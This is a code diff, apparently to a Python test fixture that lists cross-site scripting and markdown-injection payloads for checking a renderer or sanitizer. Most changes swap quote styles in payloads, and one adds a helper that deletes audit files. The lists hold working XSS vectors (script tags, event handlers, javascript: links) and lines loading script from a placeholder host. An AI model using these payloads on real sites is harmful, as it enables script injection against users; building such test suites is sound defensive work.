@@ -26,7 +26,7 @@ SCRIPTS = (
     f"</textarea></style></noscript></template><script>{RUN}</script>",
     f"--><script>{RUN}</script><!--",
     f"]]><script>{RUN}</script>",
-    f"\"><script>{RUN}</script>",
+    f'"><script>{RUN}</script>',
     f"'><script>{RUN}</script>",
     f"`><script>{RUN}</script>",
     f"<script src=https://{HOST}/x.js></script>",
@@ -41,7 +41,7 @@ SCRIPTS = (
     f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
     f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
     f"'-({RUN})-'",
-    f"\"-({RUN})-\"",
+    f'"-({RUN})-"',
     f"';{RUN};//",
     f"${{{RUN}}}",
     f"`${{{RUN}}}`",
@@ -62,11 +62,11 @@ HANDLERS = (
     f"<audio src=x onerror={RUN}>",
     f"<marquee onstart={RUN}>x</marquee>",
     f"<div style=animation-name:x onanimationstart={RUN}>",
-    f"\" onmouseover=\"{RUN}\" x=\"",
+    f'" onmouseover="{RUN}" x="',
     f"' onmouseover='{RUN}' x='",
     f"x onmouseover={RUN} ",
-    f"\" autofocus onfocus={RUN} tabindex=0 \"",
-    f"\" style=\"background:url(https://{HOST}/c.png)",
+    f'" autofocus onfocus={RUN} tabindex=0 "',
+    f'" style="background:url(https://{HOST}/c.png)',
     f"<iframe src=javascript:{RUN}></iframe>",
     f"<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
     f"<object data=https://{HOST}/o></object><embed src=https://{HOST}/e>",
@@ -123,14 +123,14 @@ LINKS = (
     f"[a](/\\{HOST})",
     f"[a](https:javascript:{RUN})",
     f'[a](https://{HOST} "x\\" onmouseover={RUN} \\"")',
-    f"[a](https://{HOST}/\"onmouseover={RUN})",
+    f'[a](https://{HOST}/"onmouseover={RUN})',
     f"[a](https://{HOST}/?<script>{RUN}</script>)",
     f"[a](mailto:x@{HOST}?subject=<script>{RUN}</script>)",
     f"[a][r] [r]\n\n[r]: javascript:{RUN}",
     f"<javascript:{RUN}>",
-    f"<https://{HOST}/\"onmouseover={RUN}>",
+    f'<https://{HOST}/"onmouseover={RUN}>',
     f"![x](https://{HOST}/p.png)",
-    f"![x](x\"onerror=\"{RUN})",
+    f'![x](x"onerror="{RUN})',
     f"![x](javascript:{RUN})",
     f"![a][r]\n\n[r]: https://{HOST}/p.png",
     f"javascript:{RUN}",
@@ -190,7 +190,7 @@ BREAKS = (
     "1. a\n1000000000. b",
     "```\n</code></pre><script>window.__pwned=1</script>",
     "```mermaid\ngraph TD\n```",
-    "``` x\" onmouseover=\"window.__pwned=1\n```",
+    '``` x" onmouseover="window.__pwned=1\n```',
     "~~~js highlight md-overlay\nx\n~~~",
     "    indented <b>x</b>",
     "`</code><script>window.__pwned=1</script>`",
@@ -282,6 +282,12 @@ def project(root: Path, words: Words, *shops: str) -> int:
         for name, colour in (("search.png", "navy"), ("unseen.jpg", "maroon")):
             Image.new("RGB", (60, 40), colour).save(evidence / name)
     return len(list(planted.fields(files)))
+
+
+def thin_out(root: Path, shop: str) -> None:
+    """Leave a shop one audit: it is there to be compared with."""
+    for name in (planted.LABELLED, planted.EARLIER):
+        (root / "audits" / name.replace(planted.SHOP, f"shops/{shop}")).unlink()
 
 
 class Rotation:
